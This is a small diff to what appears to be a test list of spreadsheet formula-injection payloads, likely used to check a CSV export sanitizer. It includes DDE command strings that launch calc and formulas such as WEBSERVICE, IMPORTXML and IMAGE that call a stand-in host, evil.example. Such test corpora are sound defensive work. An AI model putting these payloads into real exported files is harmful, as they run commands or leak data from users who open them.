@@ -43,5 +43,5 @@ FORMULAS: list[str] = [
     "+cmd|' /C calc'!A0", "-1+1", "-cmd|' /C calc'!A0", "@SUM(1+1)", "@cmd", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
     "  +1+cmd", "=IMPORTXML(\"//evil.example\",\"x\")", "=WEBSERVICE(\"http://evil.example\")", "=A1", "=\"x\"",
     "＝1+1", "＋1", "－1+2", "＠SUM(1)", "=1+1;=2", "+", "-", "=", "@", "-A1", "+A1", "--1", "++1", "=-1", "-2+3+cmd",
-    "@@x", "=IMAGE(\"//evil.example/x.png\")", "+1,2", "-(1)", "=TRUE", "\u00a0=1+1",
+    "@@x", "=IMAGE(\"//evil.example/x.png\")", "+1,2,3", "-(1)", "=TRUE", "\u00a0=1+1",
 ]  # fmt: skip
